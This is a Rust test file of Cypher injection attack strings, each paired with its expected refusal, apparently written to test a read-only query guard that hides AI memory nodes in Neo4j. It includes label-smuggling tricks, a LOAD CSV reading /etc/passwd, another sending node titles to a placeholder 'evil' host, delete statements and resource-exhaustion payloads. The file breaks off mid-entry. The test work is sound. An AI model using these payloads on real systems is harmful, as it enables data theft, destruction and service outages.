//! Handwritten attacks: from the literature on Cypher injection, from surprising behaviour of
//! Neo4j, and our own ideas.

/// The required result of an attack.
#[derive(Clone, Copy, Debug)]
pub(crate) enum AttackOutcome {
    /// Refused, with this text in the refusal.
    Refused(&'static str),
    /// Accepted, with the same result with and without memory.
    Harmless,
}

use AttackOutcome::{Harmless, Refused};

/// Name, statement, outcome.
pub(crate) const ATTACKS: &[(&str, &str, AttackOutcome)] = &[
    // Naming memory.
    (
        "memory label",
        "MATCH (n:Session) RETURN n",
        Refused("Session is no part"),
    ),
    (
        "memory label in backticks",
        "MATCH (n:`Response`) RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label after a known one",
        "MATCH (n:Movie|Response) RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label by colons",
        "MATCH (n:Movie:Response) RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label negated",
        "MATCH (n:!Movie&Response) RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label negated twice",
        "MATCH (n:!(!Channel)) RETURN n",
        Refused("Channel is no part"),
    ),
    (
        "memory label in a far group",
        "MATCH (n:(Movie|(Person&!MuninnSchema))) RETURN n",
        Refused("MuninnSchema is no part"),
    ),
    (
        "memory label after IS",
        "MATCH (n IS Response) RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label in WHERE",
        "MATCH (n) WHERE n:Session RETURN n",
        Refused("Session is no part"),
    ),
    (
        "memory label under NOT",
        "MATCH (n) WHERE NOT n:!Response RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label in RETURN",
        "MATCH (n) RETURN n:Response AS leak",
        Refused("Response is no part"),
    ),
    (
        "memory label in CASE",
        "MATCH (n) RETURN CASE WHEN n:Channel THEN n.name END",
        Refused("Channel is no part"),
    ),
    (
        "memory label in a comprehension",
        "MATCH (n) RETURN [x IN [n] WHERE x:Response]",
        Refused("Response is no part"),
    ),
    (
        "memory label in EXISTS",
        "MATCH (n) WHERE EXISTS { (n)--(:Response) } RETURN n",
        Refused("Response is no part"),
    ),
    (
        "memory label in COUNT",
        "MATCH (n) RETURN COUNT { (n)<--(:Response) }",
        Refused("Response is no part"),
    ),
    (
        "memory label in a quantified path",
        "MATCH (a) ((x)--(y:Response)){1,2} (b) RETURN a",
        Refused("Response is no part"),
    ),
    (
        "memory type",
        "MATCH ()-[r:CONTEXT]->() RETURN r",
        Refused("CONTEXT is no part"),
    ),
    (
        "memory type in backticks",
        "MATCH ()-[r:`NEXT`]->() RETURN r",
        Refused("NEXT is no part"),
    ),
    (
        "memory type after a known one",
        "MATCH ()-[r:ACTED_IN|HAS_RESPONSE]->() RETURN r",
        Refused("HAS_RESPONSE is no part"),
    ),
    (
        "memory type the old way",
        "MATCH ()-[r:ACTED_IN|:RECALLED]->() RETURN r",
        Refused("RECALLED is no part"),
    ),
    (
        "memory type negated",
        "MATCH ()-[r:!LAST_RESPONSE]->() RETURN r",
        Refused("LAST_RESPONSE is no part"),
    ),
    (
        "memory type with a length",
        "MATCH ()-[:IN*1..3]->(x) RETURN x",
        Refused("IN is no part"),
    ),
    (
        "memory type in WHERE",
        "MATCH ()-[r]->() WHERE r:CONTEXT RETURN r",
        Refused("CONTEXT is no part"),
    ),
    (
        "memory type in shortestPath",
        "MATCH p = shortestPath((a:Movie)-[:CONTEXT*]-(b:Movie)) RETURN p",
        Refused("CONTEXT is no part"),
    ),
    (
        "memory type in a comprehension",
        "MATCH (m:Movie) RETURN [(m)<-[:CONTEXT]-(r) | r.input]",
        Refused("CONTEXT is no part"),
    ),
    // Look-alike names are other names, which the schema does not have.
    (
        "label with a zero-width space",
        "MATCH (n:Sess\u{200B}ion) RETURN n",
        Refused("U+200B"),
    ),
    (
        "label with a soft hyphen",
        "MATCH (n:Ses\u{AD}sion) RETURN n",
        Refused("U+00AD"),
    ),
    (
        "label with a Cyrillic letter",
        "MATCH (n:S\u{435}ssion) RETURN n",
        Refused("there is no label"),
    ),
    (
        "label in small letters",
        "MATCH (n:session) RETURN n",
        Refused("there is no label session"),
    ),
    (
        "label in full width",
        "MATCH (n:\u{FF33}ession) RETURN n",
        Refused("there is no label"),
    ),
    (
        "label with a blank",
        "MATCH (n:`Session `) RETURN n",
        Refused("there is no label"),
    ),
    (
        "decomposed letters",
        "MATCH (n:Gro\u{308}\u{DF}e) RETURN n",
        Refused("U+0308"),
    ),
    // Escapes that Neo4j resolves before it reads.
    (
        "unicode escape in a label",
        r"MATCH (n:\u0053ession) RETURN n",
        Refused("backslash"),
    ),
    (
        "unicode escape in backticks",
        r"MATCH (n:`\u0053ession`) RETURN n",
        Refused("cannot be used"),
    ),
    (
        "backtick by escape",
        r"MATCH (n:`Movie\u0060:Response`) RETURN n",
        Refused("cannot be used"),
    ),
    (
        "quote by escape",
        r"RETURN 'a\u0027 AS x MATCH (n:Session) RETURN n //' AS y",
        Harmless,
    ),
    (
        "backslash by escape",
        r"RETURN 'a\u005C' AS x, ' MATCH (n) RETURN n //' AS y",
        Harmless,
    ),
    (
        "backslash by escape, then a quote",
        r"RETURN 'a\u005C\u0027 MATCH (n) RETURN n //' AS y",
        Harmless,
    ),
    (
        "escape after a comment",
        "MATCH (n:Movie) // \\u000A DETACH DELETE n\nRETURN n.title",
        Harmless,
    ),
    (
        "escape out of a comment",
        r"MATCH (n:Movie) /* \u002A\u002F DETACH DELETE n */ RETURN n.title",
        Harmless,
    ),
    (
        "half a character",
        r"RETURN '\uD83D' AS x",
        Refused("escape"),
    ),
    ("escaped null", r"RETURN '\u0000' AS x", Refused("escape")),
    (
        "even backslashes before u",
        r"RETURN '\\u0027 OR n:Session //' AS x",
        Harmless,
    ),
    (
        "odd backslashes before u",
        r"RETURN '\\\u0027 + n //' AS x",
        Harmless,
    ),
    (
        "carriage return ends a comment",
        "MATCH (n:Movie) // \r DETACH DELETE n\nRETURN n.title",
        Refused("DETACH"),
    ),
    (
        "backtick doubled",
        "MATCH (n:`Movie``:Response`) RETURN n",
        Refused("cannot be used"),
    ),
    (
        "backtick in a column",
        "RETURN 1 AS `x`` MATCH (n) RETURN n //`",
        Refused("cannot be used"),
    ),
    (
        "odd blanks",
        "MATCH\u{A0}(n)\u{2003}RETURN n",
        Refused("U+00A0"),
    ),
    (
        "odd dashes",
        "MATCH (a)\u{2014}(b) RETURN a",
        Refused("U+2014"),
    ),
    (
        "odd arrow heads",
        "MATCH (a)--\u{27E9}(b) RETURN a",
        Refused("U+27E9"),
    ),
    (
        "right-to-left override",
        "MATCH (n:Movie) RETURN n.title AS `a\u{202E}b`",
        Refused("cannot be used"),
    ),
    // Without names.
    ("every node", "MATCH (n) RETURN n", Harmless),
    ("every node counted", "MATCH (n) RETURN count(*)", Harmless),
    (
        "every node's labels",
        "MATCH (n) RETURN DISTINCT labels(n) AS l ORDER BY l",
        Harmless,
    ),
    (
        "every label",
        "MATCH (n) UNWIND labels(n) AS l RETURN l, count(*) ORDER BY l",
        Harmless,
    ),
    (
        "every property",
        "MATCH (n) UNWIND keys(n) AS k RETURN DISTINCT k ORDER BY k",
        Harmless,
    ),
    (
        "every property as a map",
        "MATCH (n) RETURN properties(n)",
        Harmless,
    ),
    (
        "every relationship",
        "MATCH (a)-[r]->(b) RETURN type(r), a, b",
        Harmless,
    ),
    (
        "every type",
        "MATCH ()-[r]-() RETURN DISTINCT type(r) AS t ORDER BY t",
        Harmless,
    ),
    (
        "a label spelt as text",
        "MATCH (n) WHERE 'Session' IN labels(n) RETURN n",
        Harmless,
    ),
    (
        "a label put together",
        "MATCH (n) WHERE any(l IN labels(n) WHERE l STARTS WITH 'Resp') RETURN n",
        Harmless,
    ),
    (
        "a type spelt as text",
        "MATCH (a)-[r]->(b) WHERE type(r) = 'CONTEXT' RETURN a",
        Harmless,
    ),
    (
        "a property of memory",
        "MATCH (n) WHERE n.input IS NOT NULL RETURN n.input",
        Harmless,
    ),
    (
        "a property by a computed name",
        "MATCH (n) RETURN n['in' + 'put'] AS x",
        Harmless,
    ),
    (
        "text in any property",
        "MATCH (n) WHERE any(k IN keys(n) WHERE toString(n[k]) CONTAINS 'RAVEN') RETURN n",
        Harmless,
    ),
    ("any label", "MATCH (n:%) RETURN n", Harmless),
    (
        "no knowledge label",
        "MATCH (n:!Movie&!Person) RETURN n",
        Harmless,
    ),
    (
        "nothing known",
        "MATCH (n:!(Movie|Person|`Odd Thing`)) RETURN n",
        Harmless,
    ),
    (
        "any type but",
        "MATCH ()-[r:!ACTED_IN]->(x) RETURN type(r), x",
        Harmless,
    ),
    (
        "two ways at once",
        "MATCH (m:Movie)<-[r]-(x), (m)-[q]-(y) RETURN type(r), type(q), x, y",
        Harmless,
    ),
    (
        "neighbours of any kind",
        "MATCH (m:Movie {title: 'The Matrix'})--(x) RETURN x",
        Harmless,
    ),
    (
        "neighbours at any distance",
        "MATCH (m:Movie {title: 'The Matrix'})-[*1..4]-(x) RETURN DISTINCT x",
        Harmless,
    ),
    (
        "neighbours without end",
        "MATCH (m:Movie {title: 'The Matrix'})-[*]-(x) RETURN count(x)",
        Harmless,
    ),
    (
        "from nowhere",
        "MATCH ()-[*0..2]-(x) RETURN DISTINCT x",
        Harmless,
    ),
    (
        "a path's inside",
        "MATCH p = (:Movie)-[*2]-(:Movie) RETURN [n IN nodes(p) | labels(n)], [r IN relationships(p) | type(r)]",
        Harmless,
    ),
    (
        "a quantified path",
        "MATCH (a:Movie) ((x)-[r]-(y)){1,3} (b) RETURN [n IN y | labels(n)] AS l, b",
        Harmless,
    ),
    (
        "a quantified relationship",
        "MATCH (a:Movie)-[r]-{1,2}(b) RETURN DISTINCT b",
        Harmless,
    ),
    (
        "a quantified path with a condition",
        "MATCH (a:Movie) ((x)--(y) WHERE y.input IS NOT NULL)+ (b) RETURN b",
        Harmless,
    ),
    (
        "the shortest path over memory",
        "MATCH p = shortestPath((a:Movie {title: 'The Matrix'})-[*]-(b:Movie {title: 'Speed'})) RETURN length(p)",
        Harmless,
    ),
    (
        "all shortest paths",
        "MATCH p = allShortestPaths((a:Movie)-[*]-(b:Person)) WHERE a <> b RETURN count(p)",
        Harmless,
    ),
    (
        "any shortest path",
        "MATCH p = ANY SHORTEST (a:Movie)--+(b:Person) RETURN length(p) AS l ORDER BY l",
        Refused("shortestPath"),
    ),
    (
        "shortest path as a value",
        "MATCH (a:Movie), (b:Movie) WHERE a <> b RETURN length(shortestPath((a)-[*]-(b))) AS l",
        Harmless,
    ),
    // Shape without content.
    (
        "degree by COUNT",
        "MATCH (m:Movie) RETURN m.title, COUNT { (m)--() } AS d ORDER BY m.title",
        Harmless,
    ),
    (
        "degree by size",
        "MATCH (m:Movie) RETURN m.title, size([(m)--() | 1]) AS d ORDER BY m.title",
        Harmless,
    ),
    (
        "degree by size of a pattern",
        "MATCH (m:Movie) RETURN m.title, size((m)<--()) AS d ORDER BY m.title",
        Harmless,
    ),
    (
        "order by degree",
        "MATCH (m:Movie) RETURN m.title ORDER BY COUNT { (m)<--() } DESC, m.title",
        Harmless,
    ),
    (
        "existence by EXISTS",
        "MATCH (m:Movie) WHERE EXISTS { (m)<--(x) WHERE x.position = 1 } RETURN m",
        Harmless,
    ),
    (
        "existence by MATCH in EXISTS",
        "MATCH (m:Movie) WHERE EXISTS { MATCH (x) WHERE x.position = 1 RETURN x } RETURN m",
        Harmless,
    ),
    (
        "existence by a predicate",
        "MATCH (g:`Odd Thing`) WHERE NOT (g)--() RETURN g.wert",
        Harmless,
    ),
    (
        "existence by exists()",
        "MATCH (m) RETURN exists((m)<--()) AS e, count(*) ORDER BY e",
        Harmless,
    ),
    (
        "existence by OPTIONAL MATCH",
        "OPTIONAL MATCH (x) WHERE x.input IS NOT NULL RETURN x IS NULL AS nothing",
        Harmless,
    ),
    (
        "COLLECT of everything",
        "RETURN COLLECT { MATCH (x) RETURN x.name } AS all",
        Harmless,
    ),
    (
        "COUNT of everything",
        "RETURN COUNT { MATCH (x) } AS all, COUNT { (x) } AS too",
        Harmless,
    ),
    (
        "order by a property of memory",
        "MATCH (n) RETURN n.id ORDER BY n.input, n.id",
        Harmless,
    ),
    (
        "highest of everything",
        "MATCH (n) RETURN max(n.position), max(n.name), count(n.input)",
        Harmless,
    ),
    // Errors as a signal.
    (
        "division by zero of memory",
        "MATCH (n) WHERE 1 / n.born > 0 RETURN count(n)",
        Harmless,
    ),
    (
        "division by zero in CASE",
        "MATCH (n) RETURN sum(CASE WHEN n.input STARTS WITH 'RAVEN' THEN 1 / 0 ELSE 0 END)",
        Harmless,
    ),
    (
        "a date of memory's text",
        "MATCH (n) WHERE date(n.input) IS NOT NULL RETURN n",
        Harmless,
    ),
    (
        "division in ORDER BY",
        "MATCH (n) RETURN n.id ORDER BY 1 / n.released",
        Harmless,
    ),
    (
        "division on relationships",
        "MATCH ()-[r]->() RETURN count(1 / r.score)",
        Harmless,
    ),
    (
        "by element id",
        "UNWIND range(0, 20) AS i MATCH (n) WHERE elementId(n) ENDS WITH ':' + toString(i) AND 1 / n.born > 0 RETURN n",
        Harmless,
    ),
    (
        "by id, with an error",
        "UNWIND range(0, 20) AS i MATCH (n) WHERE id(n) = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "by a list of ids",
        "MATCH (n) WHERE id(n) IN range(0, 100) RETURN n",
        Harmless,
    ),
    (
        "relationship by id",
        "UNWIND range(0, 40) AS i MATCH ()-[r]->() WHERE id(r) = i AND 1 / r.score > 0 RETURN type(r)",
        Harmless,
    ),
    (
        "by an element id that is text",
        "MATCH (n) WHERE elementId(n) = '3' RETURN n",
        Harmless,
    ),
    // Ids, in forms that a planner may take for a look-up.
    (
        "a node by id, form 1",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE +id(n) = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 2",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE +id(n) IN [i] AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 3",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE NOT id(n) <> i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 4",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE NOT elementId(n) <> '4:x:204' AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 5",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE id(n) = i = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 6",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE -(-id(n)) = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 7",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE id(n) + 0 = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 8",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE id(n) >= i AND id(n) <= i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 9",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE CASE id(n) WHEN i THEN true ELSE false END AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 10",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE [id(n)] = [i] AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 11",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE {a: id(n)} = {a: i} AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 12",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE any(x IN [id(n)] WHERE x = i) AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 13",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE EXISTS { (m:Movie) WHERE id(n) = id(m) } AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 14",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE COUNT { (n) WHERE +id(n) = i } > 0 AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 15",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE [(n)--(m) WHERE NOT id(m) <> i | 1] = [1] AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 16",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE coalesce(id(n)) = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 17",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE toString(id(n)) = toString(i) AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a node by id, form 18",
        "UNWIND range(0, 40) AS i MATCH (n) WHERE i = id(n) XOR false AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    (
        "a relationship by id, form 1",
        "UNWIND range(0, 40) AS i MATCH ()-[r]->() WHERE +id(r) = i AND 1 / r.score > 0 RETURN type(r)",
        Harmless,
    ),
    (
        "a relationship by id, form 2",
        "UNWIND range(0, 40) AS i MATCH ()-[r]->() WHERE NOT elementId(r) <> '5:x:7' AND 1 / r.score > 0 RETURN type(r)",
        Harmless,
    ),
    (
        "a relationship by id, form 3",
        "UNWIND range(0, 40) AS i MATCH ()-[r]->() WHERE id(r) = i = i AND 1 / r.score > 0 RETURN type(r)",
        Harmless,
    ),
    (
        "a relationship by id, form 4",
        "UNWIND range(0, 40) AS i MATCH ()-[r]->() WHERE [id(r)] = [i] AND 1 / r.score > 0 RETURN type(r)",
        Harmless,
    ),
    (
        "an id by another name",
        "UNWIND range(0, 40) AS i MATCH (n) WITH n, i, id(n) AS x WHERE x = i AND 1 / n.born > 0 RETURN n.id",
        Harmless,
    ),
    // Scopes.
    (
        "bound again after WITH",
        "MATCH (n:Movie) WITH n.title AS n MATCH (x {title: n}) RETURN x",
        Harmless,
    ),
    (
        "hidden in a subquery",
        "MATCH (n:Movie) CALL { MATCH (n) RETURN count(n) AS c } RETURN DISTINCT c",
        Harmless,
    ),
    (
        "hidden in COUNT",
        "MATCH (n:Movie) WITH count(n) AS m RETURN COUNT { MATCH (n) RETURN n } AS c",
        Harmless,
    ),
    (
        "out of a list",
        "MATCH (n:Movie) WITH collect(n) AS all UNWIND all AS x MATCH (x)--(y) RETURN y",
        Harmless,
    ),
    (
        "out of a map",
        "MATCH (n:Movie) WITH {it: n} AS m WITH m.it AS x MATCH (x)--(y) RETURN y",
        Harmless,
    ),
    (
        "ends of a relationship",
        "MATCH ()-[r]->() RETURN startNode(r), endNode(r)",
        Harmless,
    ),
    (
        "ends of a relationship bound again",
        "MATCH ()-[r]->() WITH startNode(r) AS s MATCH (s)--(x) RETURN x",
        Harmless,
    ),
    (
        "relationship bound again",
        "MATCH (m:Movie)<-[r]-() MATCH (a)-[r]->(b) RETURN a, b",
        Harmless,
    ),
    (
        "a subquery with imports",
        "MATCH (m:Movie) CALL (m) { MATCH (m)--(x) RETURN count(x) AS c } RETURN m.title, c ORDER BY m.title",
        Harmless,
    ),
    (
        "a subquery in a subquery",
        "CALL { CALL { MATCH (x) RETURN x } RETURN x } RETURN x",
        Harmless,
    ),
    (
        "a UNION",
        "MATCH (m:Movie) RETURN m.title AS t UNION MATCH (x) RETURN x.input AS t",
        Harmless,
    ),
    (
        "a UNION in a subquery",
        "CALL { MATCH (m:Movie) RETURN m AS x UNION ALL MATCH (x) RETURN x } RETURN count(x)",
        Harmless,
    ),
    (
        "a minus that is a path",
        "MATCH (a), (b) WHERE (a)-[x]-(b) RETURN count(*)",
        Harmless,
    ),
    (
        "a path by arithmetic",
        "MATCH (a:Movie), (b) WITH a, b, 1 AS x RETURN (a)-[x]-(b)",
        Harmless,
    ),
    (
        "a node by a label test",
        "MATCH (n:Movie), (m:Person) RETURN (n:Movie)-[1]-(m:Person)",
        Refused("label test"),
    ),
    (
        "a node by a map projection",
        "MATCH (n:Movie), (m:Person) RETURN (n {.title}) - [1] - (m {.name})",
        Harmless,
    ),
    (
        "properties of a map projection",
        "MATCH (n) RETURN n {.*, .input, all: n.output} AS m",
        Harmless,
    ),
    // Statements that do not only read.
    (
        "CREATE",
        "CREATE (n:Movie) RETURN n",
        Refused("CREATE changes"),
    ),
    (
        "CREATE after MATCH",
        "MATCH (n:Movie) CREATE (m:Movie) RETURN m",
        Refused("CREATE changes"),
    ),
    (
        "MERGE",
        "MERGE (n:Movie {title: 'x'}) RETURN n",
        Refused("MERGE changes"),
    ),
    (
        "SET",
        "MATCH (n:Movie) SET n.title = 'x' RETURN n",
        Refused("SET changes"),
    ),
    (
        "REMOVE",
        "MATCH (n:Movie) REMOVE n.title RETURN n",
        Refused("REMOVE changes"),
    ),
    (
        "DELETE",
        "MATCH (n:Movie) DETACH DELETE n",
        Refused("DETACH changes"),
    ),
    (
        "FOREACH",
        "MATCH (n:Movie) FOREACH (x IN [1] | SET n.x = x) RETURN n",
        Refused("FOREACH changes"),
    ),
    (
        "a write in a subquery",
        "CALL { CREATE (n:Movie) RETURN n } RETURN n",
        Refused("CREATE changes"),
    ),
    (
        "a write in EXISTS",
        "MATCH (n:Movie) WHERE EXISTS { CREATE (n)-[:X]->() } RETURN n",
        Refused("CREATE changes"),
    ),
    (
        "a write after RETURN",
        "MATCH (n:Movie) RETURN n DELETE n",
        Refused("DELETE changes"),
    ),
    (
        "a write in transactions",
        "CALL { MATCH (n:Movie) RETURN n } IN TRANSACTIONS OF 1 ROWS RETURN n",
        Refused("IN TRANSACTIONS"),
    ),
    (
        "LOAD CSV",
        "LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l",
        Refused("LOAD CSV"),
    ),
    (
        "LOAD CSV over HTTP",
        "MATCH (n:Movie) LOAD CSV FROM 'http://evil/' + n.title AS l RETURN l",
        Refused("LOAD CSV"),
    ),
    ("USE", "USE system MATCH (n) RETURN n", Refused("USE")),
    ("SHOW", "SHOW TRANSACTIONS", Refused("SHOW")),
    (
        "TERMINATE",
        "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
        Refused("TERMINATE"),
    ),
    ("DROP", "DROP CONSTRAINT muninn_session_id", Refused("DROP")),
    ("EXPLAIN", "EXPLAIN MATCH (n) RETURN n", Refused("EXPLAIN")),
    ("PROFILE", "PROFILE MATCH (n) RETURN n", Refused("PROFILE")),
    (
        "options",
        "CYPHER runtime=interpreted MATCH (n) RETURN n",
        Refused("CYPHER"),
    ),
    (
        "two statements",
        "MATCH (n:Movie) RETURN n; MATCH (n:Session) DETACH DELETE n",
        Refused("second statement"),
    ),
    ("nothing", "", Refused("the statement ends")),
    (
        "only a comment",
        "// MATCH (n) RETURN n",
        Refused("the statement ends"),
    ),
    ("no result", "MATCH (n:Movie)", Refused("returns nothing")),
    ("FINISH", "MATCH (n:Movie) FINISH", Refused("FINISH")),
    // Procedures and functions.
    (
        "a procedure",
        "CALL db.labels() YIELD label RETURN label",
        Refused("procedures"),
    ),
    (
        "a procedure without brackets",
        "CALL db.labels",
        Refused("procedures"),
    ),
    (
        "a procedure in backticks",
        "CALL `db`.`labels`() YIELD label RETURN label",
        Refused("procedures"),
    ),
    (
        "a query by APOC",
        "RETURN apoc.cypher.runFirstColumnSingle('MATCH (n) RETURN n', {})",
        Refused("apoc.cypher"),
    ),
    (
        "a degree by APOC",
        "MATCH (m:Movie) RETURN apoc.node.degree(m)",
        Refused("apoc.node.degree"),
    ),
    (
        "a function in backticks",
        "RETURN `apoc`.`version`()",
        Refused(""),
    ),
    (
        "a function in one backtick",
        "RETURN `apoc.version`()",
        Refused(""),
    ),
    (
        "an error by APOC",
        "MATCH (n) WHERE apoc.util.validatePredicate(true, 'x', []) RETURN n",
        Refused("apoc.util"),
    ),
    (
        "a look-alike of a function",
        "RETURN tolowеr('x')",
        Refused("is not known"),
    ),
    (
        "a graph by name",
        "RETURN graph.names()",
        Refused("graph.names"),
    ),
    (
        "the name of a database by id",
        "RETURN db.nameFromElementId('4:x:0')",
        Refused("db.nameFromElementId"),
    ),
    ("a file's name", "RETURN file()", Refused("file")),
    (
        "a model of the server",
        "RETURN genai.vector.encode('x', 'OpenAI', {})",
        Refused("genai"),
    ),
    (
        "a computed label",
        "WITH 'Session' AS l MATCH (n:$(l)) RETURN n",
        Refused("computed"),
    ),
    (
        "a computed label of any",
        "MATCH (n:$any(['Session'])) RETURN n",
        Refused("computed"),
    ),
    (
        "a computed type",
        "MATCH ()-[r:$('CONTEXT')]->() RETURN r",
        Refused("computed"),
    ),
    (
        "a parameter",
        "MATCH (n) WHERE n.id = $session RETURN n",
        Refused("no parameter $session"),
    ),
    (
        "a parameter as properties",
        "MATCH (n $all) RETURN n",
        Refused("parameter"),
    ),
    (
        "a parameter as a limit",
        "MATCH (n) RETURN n LIMIT $all",
        Refused("no parameter $all"),
    ),
    (
        "a computed limit",
        "MATCH (n) RETURN n LIMIT toInteger(1e9)",
        Refused("LIMIT"),
    ),
    (
        "a limit that counts",
        "MATCH (n:Movie) RETURN n LIMIT COUNT { MATCH (x) RETURN x }",
        Refused("LIMIT"),
    ),
    (
        "a computed SKIP",
        "MATCH (n:Movie) RETURN n SKIP COUNT { MATCH (x) }",
        Refused("SKIP"),
    ),
    (
        "a hint",
        "MATCH (n:Movie) USING SCAN n:Movie RETURN n",
        Refused("hints"),
    ),
    // Too expensive.
    (
        "a huge range",
        "UNWIND range(1, 100000000) AS x RETURN count(x)",
        Refused("range"),
    ),
    (
        "a huge range by a product",
        "UNWIND range(1, 10000 * 10000) AS x RETURN count(x)",
        Refused("range"),
    ),
    (
        "a huge range by a variable",
        "WITH 100000000 AS n RETURN size(range(1, n))",
        Refused("range"),
    ),
    (
        "a huge range by a property",
        "MATCH (m:Movie) RETURN size(range(1, m.released * 1000000))",
        Refused("range"),
    ),
    (
        "a range back",
        "RETURN size(range(100000000, 1, -1))",
        Refused("range"),
    ),
    (
        "a string doubled by reduce",
        "RETURN size(reduce(s = 'x', i IN range(1, 60) | s + s))",
        Refused("more than once"),
    ),
    (
        "a string doubled by replace",
        "RETURN size(reduce(s = 'x', i IN range(1, 60) | replace(s, 'x', 'xx')))",
        Refused("more than once"),
    ),
    (
        "a list doubled by a comprehension",
        "RETURN size(reduce(s = [1], i IN range(1, 60) | [x IN s + s | x]))",
        Refused("more than once"),
    ),
    (
        "a list doubled by maps",
        "RETURN reduce(s = [1], i IN range(1, 60) | [s, s])",
        Refused("more than once"),
    ),
    (
        "a string doubled by WITH",
        "WITH 'xxxxxxxxxxxxxxxx' AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s WITH s + s + s + s + s + s + s + s AS s RETURN size(s)",
        Refused("too big"),
    ),
    (
        "replace by what is computed",
        "MATCH (m:Movie) RETURN replace(m.title, 'e', m.title)",
        Refused("replace"),
    ),
    (
        "loops in loops",
        "WITH range(1, 10000) AS r RETURN size([a IN r WHERE size([b IN r WHERE size([c IN r | c]) > 0]) > 0])",
        Refused("loops in loops"),
    ),
    (
        "more hops than there are",
        "MATCH (a)-[*1..99999999]-(b) RETURN a",
        Refused("at most"),
    ),
    (
        "a number that is too big",
        "RETURN 99999999999999999999",
        Refused("no number"),
    ),
    (
        "a count with a huge number added",
        "RETURN size(range(1, size('a') + 1000000000))",
        Refused("range"),
    ),
    (
        "a count with a huge number taken off",
        "RETURN size(range(size('a') - 1000000000, 1))",
        Refused("range"),
    ),
    (
        "a count divided by little",
        "RETURN size(range(1, toInteger(size('a') / 0.000000001)))",
        Refused("range"),
    ),
    (
        "a count or a huge number",
        "RETURN size(range(1, coalesce(size('a'), 1000000000)))",
        Refused("range"),
    ),
    (
        "a count with much added bit by bit",
        "WITH size('a') + 9999 AS a WITH a + 9999 AS b RETURN size(range(1, b))",
        Refused("range"),
    ),
    (
        "a regular expression that goes back",
        "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' =~ '(.*a){25}b'",
        Refused("regular expression"),
    ),
    (
        "a regular expression in parts",
        "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa' =~ '(a+' + ')+b'",
        Refused("regular expression"),
    ),
    (
        "a regular expression that is computed",
        "MATCH (m:Movie) RETURN 'aaa' =~ m.title",
        Refused("regular expression"),
    ),
    (
        "a regular expression with many ways",
        "MATCH (m:Movie) WHERE m.title =~ '.*a.*a.*a.*a.*a.*b' RETURN m",
        Refused("regular expression"),
    ),
    (
        "a regular expression in a loop",
        "RETURN [x IN range(1, 10000) WHERE 'aaaaaaaaaa' =~ '.*a.*a.*b']",
        Refused("too many steps"),
    ),
    (
        "a string grown by reduce",
        "RETURN size(reduce(s = '', x IN range(1, 10000) | s + 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'))",
        Refused("too many steps"),
    ),
    (
        "a string of properties grown by reduce",
        "MATCH (m:Movie) RETURN size(reduce(s = '', x IN range(1, 10000) | s + m.title))",
        Refused("too many steps"),
    ),
    (
        "loops side by side",
